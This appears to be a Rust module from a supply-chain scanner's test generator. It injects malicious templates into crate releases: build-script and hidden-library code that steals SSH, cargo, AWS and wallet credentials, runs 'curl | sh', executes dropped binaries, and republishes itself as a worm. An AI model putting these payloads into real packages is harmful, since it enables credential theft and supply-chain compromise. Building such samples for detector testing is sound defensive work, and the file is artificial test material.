//! Forms for crates.

use crate::Form;
use crate::archive::{Release, blob};
use crate::draw::Draw;
use trustmill_core::port::scanner::Context;

pub(crate) const FORMS: &[Form] = &[
    Form { name: "build-keys", held_out: false, put: build_keys },
    Form { name: "build-shell", held_out: true, put: build_shell },
    Form { name: "build-environment", held_out: false, put: build_environment },
    Form { name: "build-blob", held_out: true, put: build_blob },
    Form { name: "lib-keys", held_out: false, put: lib_keys },
    Form { name: "lib-download", held_out: true, put: lib_download },
    Form { name: "phantom-dependency", held_out: false, put: phantom },
    Form { name: "lib-wallet-scan", held_out: true, put: wallet_scan },
    Form { name: "build-worm", held_out: false, put: build_worm },
    Form { name: "build-young-tool", held_out: true, put: build_young_tool },
];

/// Rust that sends the variable `data`.
fn send(draw: &mut Draw) -> String {
    let (host, url) = (draw.host(), draw.url());
    match draw.below(4) {
        0 => format!(
            "if let Ok(mut s) = std::net::TcpStream::connect((\"{host}\", 80)) {{ let _ = std::io::Write::write_all(&mut s, format!(\"POST / HTTP/1.1\\r\\n\\r\\n{{data}}\").as_bytes()); }}"
        ),
        1 => format!("let _ = ureq::post(\"{url}\").send_string(&data);"),
        2 => format!("let _ = reqwest::blocking::Client::new().post(\"{url}\").body(data.clone()).send();"),
        _ => format!(
            "let _ = std::process::Command::new(\"curl\").args([\"-s\", \"-d\", data.as_str(), \"{url}\"]).status();"
        ),
    }
}

/// Has cargo run `build.rs`: published manifests say `build = false` where there is none.
pub(crate) fn declared(release: &mut Release) -> Option<()> {
    release.edit("Cargo.toml", |text| text.replace("\nbuild = false\n", "\nbuild = \"build.rs\"\n"))
}

/// Puts statements into the build script, a new one where there is none.
pub(crate) fn build(release: &mut Release, body: &str) -> Option<()> {
    declared(release)?;
    match release.text("build.rs") {
        Some(text) => {
            let at = text.find("fn main() {")? + "fn main() {".len();
            let (head, tail) = text.split_at(at);
            release.put("build.rs", format!("{head}\n    {body}\n{tail}"));
        }
        None => release.put(
            "build.rs",
            format!("fn main() {{\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    {body}\n}}\n"),
        ),
    }
    Some(())
}

fn build_keys(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let file = draw.of(&[".ssh/id_rsa", ".ssh/id_ed25519", ".cargo/credentials.toml", ".aws/credentials"]);
    let send = send(draw);
    build(
        release,
        &format!(
            "let home = std::env::var(\"HOME\").unwrap_or_default();\n    if let Ok(data) = std::fs::read_to_string(std::path::Path::new(&home).join(\"{file}\")) {{\n        {send}\n    }}"
        ),
    )
}

fn build_shell(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = draw.url();
    build(
        release,
        &format!(
            "let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -fsSL {url} | sh\").spawn();"
        ),
    )
}

fn build_environment(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let send = send(draw);
    let take = draw.of(&[
        "let data = std::env::vars().map(|(k, v)| format!(\"{k}={v}\")).collect::<Vec<_>>().join(\"\\n\");",
        "let data = format!(\"{:?}\", std::env::vars().collect::<Vec<_>>());",
    ]);
    build(release, &format!("{take}\n    {send}"))
}

fn build_blob(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let stem = draw.stem();
    release.put(&format!("assets/{stem}.bin"), blob(draw.below(9999)));
    build(
        release,
        &format!(
            "let path = std::env::temp_dir().join(\"{stem}\");\n    let _ = std::fs::write(&path, include_bytes!(\"assets/{stem}.bin\"));\n    let _ = std::process::Command::new(\"chmod\").arg(\"+x\").arg(&path).status();\n    let _ = std::process::Command::new(&path).spawn();"
        ),
    )
}

pub(crate) fn lib(release: &mut Release, code: &str) -> Option<()> {
    release.edit("src/lib.rs", |text| format!("{text}\n{code}"))
}

fn lib_keys(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, send) = (draw.name().to_lowercase(), send(draw));
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}_sync() {{\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    for name in [\".ssh/id_rsa\", \".config/solana/id.json\", \".aws/credentials\"] {{\n        if let Ok(data) = std::fs::read_to_string(format!(\"{{home}}/{{name}}\")) {{\n            {send}\n        }}\n    }}\n}}\n"
        ),
    )
}

fn lib_download(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_lowercase(), draw.url());
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}_warm() {{\n    std::thread::spawn(|| {{\n        let path = std::env::temp_dir().join(\".{name}\");\n        if let Ok(answer) = reqwest::blocking::get(\"{url}\") {{\n            if let Ok(bytes) = answer.bytes() {{\n                let _ = std::fs::write(&path, &bytes);\n                let _ = std::process::Command::new(\"chmod\").arg(\"755\").arg(&path).status();\n                let _ = std::process::Command::new(&path).spawn();\n            }}\n        }}\n    }});\n}}\n"
        ),
    )
}

fn phantom(release: &mut Release, draw: &mut Draw, context: &mut Context) -> Option<()> {
    let name =
        format!("{}-{}", draw.of(&["async", "fast", "log"]), draw.of(&["println", "macros-rt", "support"]));
    context.young_dependencies.push(name.clone());
    release.edit("Cargo.toml", |text| format!("{text}\n[dependencies.{name}]\nversion = \"0.1.3\"\n"))
}

fn wallet_scan(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_lowercase(), draw.url());
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}_pack(root: &std::path::Path) {{\n    let key = regex::Regex::new(r\"\\b(0x)?[0-9a-fA-F]{{64}}\\b\").unwrap();\n    let mut hits = Vec::new();\n    if let Ok(entries) = std::fs::read_dir(root) {{\n        for entry in entries.flatten() {{\n            if let Ok(text) = std::fs::read_to_string(entry.path()) {{\n                for found in key.find_iter(&text) {{ hits.push(found.as_str().to_string()); }}\n            }}\n        }}\n    }}\n    let _ = ureq::post(\"{url}\").send_json(serde_json::json!({{\"items\": hits}}));\n}}\n"
        ),
    )
}

fn build_worm(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let send = send(draw);
    build(
        release,
        &format!(
            "let home = std::env::var(\"CARGO_HOME\").unwrap_or_default();\n    let data = std::fs::read_to_string(format!(\"{{home}}/credentials.toml\")).unwrap_or_default();\n    {send}\n    let _ = std::process::Command::new(\"cargo\").args([\"publish\", \"--allow-dirty\", \"--no-verify\"]).status();"
        ),
    )
}

fn build_young_tool(release: &mut Release, draw: &mut Draw, context: &mut Context) -> Option<()> {
    let name = format!("build-{}", draw.of(&["probe", "detect", "sysinfo"]));
    context.young_dependencies.push(name.clone());
    release.edit("Cargo.toml", |text| format!("{text}\n[build-dependencies.{name}]\nversion = \"0.2\"\n"))?;
    build(release, &format!("{}::run();", name.replace('-', "_")))
}
